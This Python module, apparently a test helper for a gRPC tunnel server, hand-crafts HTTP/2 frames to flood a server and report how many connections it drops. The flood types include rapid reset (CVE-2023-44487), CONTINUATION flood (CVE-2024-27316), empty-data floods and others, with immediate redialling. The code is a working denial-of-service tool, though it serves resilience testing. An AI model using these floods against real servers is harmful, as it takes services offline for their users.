"""A plain HTTP/2 client over TLS that obeys no limit: floods of one frame type, with or without reading.

``python -m tests.rogues.http2 ADDRESS BUNDLE KIND [--connections N] [--seconds S] [--read] [--source IP]``
floods, and prints a line of JSON: the bytes sent, and the number of connections that the server ended. BUNDLE
is any certificate with its key, PEM. This module makes the frames itself, because libraries for HTTP/2 refuse
to send the frames of a flood.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9
)  # fmt: skip
END_STREAM, END_HEADERS, ACK = 1, 4, 1
_BATCH_BYTES = 16 * 1024
_CONNECT_SECONDS = 10.0


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Return one HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header field for HPACK, literal and not indexed, neither part above 126 bytes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def call_headers(path: bytes = b"/qanat.v1.Tunnel/Attach") -> bytes:
    """Return the header block of a gRPC call."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", path),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(literal(name, value) for name, value in fields)


# Floods: each yields batches of frames for ever.


def _same(one: bytes) -> Iterator[bytes]:
    batch = one * max(1, _BATCH_BYTES // len(one))
    while True:
        yield batch


def _streams() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def _resets() -> Iterator[bytes]:
    """Frames of calls that are reset at once (CVE-2023-44487)."""
    block = call_headers()
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def _continuations() -> Iterator[bytes]:
    """A header block that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, call_headers())
    yield from _same(frame(CONTINUATION, 0, 1))


def _big_continuations() -> Iterator[bytes]:
    """A header block that never ends, with content in each frame."""
    yield frame(HEADERS, 0, 1, call_headers())
    yield from _same(frame(CONTINUATION, 0, 1, literal(b"x-filler", b"f" * 100) * 10))


def _window_updates() -> Iterator[bytes]:
    yield from _same(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def _stream_window_updates() -> Iterator[bytes]:
    """Window updates of one open call."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers())
    yield from _same(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))


def _empty_data() -> Iterator[bytes]:
    """Frames without content for one call (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers())
    yield from _same(frame(DATA, 0, 1))


def _empty_messages() -> Iterator[bytes]:
    """Empty messages of five bytes each, in large frames of one call."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers())
    yield from _same(frame(DATA, 0, 1, bytes(5 * 3000)))


def _late_resets() -> Iterator[bytes]:
    """Resets of a call that has ended."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers())
    yield from _same(frame(RST_STREAM, 0, 1, struct.pack(">I", 8)))


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "ping": lambda: _same(frame(PING, 0, 0, b"12345678")),
    "ping_ack": lambda: _same(frame(PING, ACK, 0, b"12345678")),
    "settings": lambda: _same(frame(SETTINGS)),
    "settings_table": lambda: _same(frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096))),
    "rapid_reset": _resets,
    "late_reset": _late_resets,
    "window_update": _window_updates,
    "stream_window_update": _stream_window_updates,
    "continuation": _continuations,
    "big_continuation": _big_continuations,
    "empty_data": _empty_data,
    "empty_messages": _empty_messages,
    "priority": lambda: _same(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 15))),
    "unknown": lambda: _same(frame(0x77, 0, 0)),
}


def client_context(identity: Path) -> ssl.SSLContext:
    """TLS with a client certificate and ALPN h2; nothing of the server is verified."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(identity)
    context.set_alpn_protocols(["h2"])
    return context


def dial(
    address: tuple[str, int],
    context: ssl.SSLContext,
    session: ssl.SSLSession | None = None,
    source: str = "",
) -> ssl.SSLSocket:
    """Return a connection on which preface and empty SETTINGS were sent. Raises OSError.

    ``source`` is the address that it comes from; empty leaves the choice to the system.
    """
    raw = socket.create_connection(address, _CONNECT_SECONDS, (source, 0) if source else None)
    with contextlib.ExitStack() as stack:
        stack.callback(raw.close)
        connection = context.wrap_socket(raw, server_hostname="localhost", session=session)
        stack.callback(connection.close)
        connection.sendall(PREFACE + frame(SETTINGS))
        stack.pop_all()
    return connection


@dataclass
class _Flooder:
    """One connection of a flood."""

    address: tuple[str, int]
    context: ssl.SSLContext
    batches: Callable[[], Iterator[bytes]]
    reads: bool
    source: str = ""
    connection: ssl.SSLSocket | None = None
    sent: int = 0
    ends: int = 0
    _frames: Iterator[bytes] = field(default_factory=lambda: iter(()))
    _rest: bytes = b""

    def connect(self) -> bool:
        try:
            self.connection = dial(self.address, self.context, source=self.source)
        except OSError:
            self.ends += 1
            return False
        self.connection.setblocking(False)
        self._frames, self._rest = self.batches(), b""
        return True

    def step(self) -> bool:
        """Send, and read if the flood reads. Returns False once the server has ended the connection."""
        assert self.connection is not None
        try:
            if self.reads:
                self._read(self.connection)
            self._rest = self._rest or self._gather()
            count = self.connection.send(self._rest)
            self.sent += count
            self._rest = self._rest[count:]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return True
        except OSError:
            self.ends += 1
            self.connection.close()
            return False
        return True

    def _gather(self) -> bytes:
        data = b""
        while len(data) < _BATCH_BYTES:
            data += next(self._frames)
        return data

    def _read(self, connection: ssl.SSLSocket) -> None:
        try:
            while True:
                if not connection.recv(1 << 16):
                    raise ConnectionResetError("the server ended the connection")
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return


def flood(
    address: tuple[str, int],
    identity: Path,
    kind: str,
    connections: int,
    seconds: float,
    *,
    reads: bool = False,
    source: str = "",
) -> dict[str, int]:
    """Flood for ``seconds``. A connection that the server ends is dialled again at once."""
    context, ends_at = client_context(identity), time.monotonic() + seconds
    flooders = [_Flooder(address, context, FLOODS[kind], reads, source) for _ in range(connections)]
    with selectors.DefaultSelector() as ready:
        while time.monotonic() < ends_at:
            for flooder in flooders:
                if flooder.connection is None and flooder.connect():
                    ready.register(flooder.connection, selectors.EVENT_WRITE, flooder)
            for key, _ in ready.select(0.1):
                flooder = key.data
                if not flooder.step():
                    ready.unregister(key.fileobj)
                    flooder.connection = None
    return {"sent": sum(one.sent for one in flooders), "ended": sum(one.ends for one in flooders)}


def main(arguments: Sequence[str]) -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("identity", type=Path)
    parser.add_argument("kind", choices=FLOODS)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--read", action="store_true")
    parser.add_argument("--source", default="")
    told = parser.parse_args(arguments)
    host, _, port = told.address.rpartition(":")
    options = {"reads": told.read, "source": told.source}
    address = host, int(port)
    result = flood(address, told.identity, told.kind, told.connections, told.seconds, **options)
    sys.stdout.write(json.dumps(result) + "\n")


if __name__ == "__main__":
    main(sys.argv[1:])
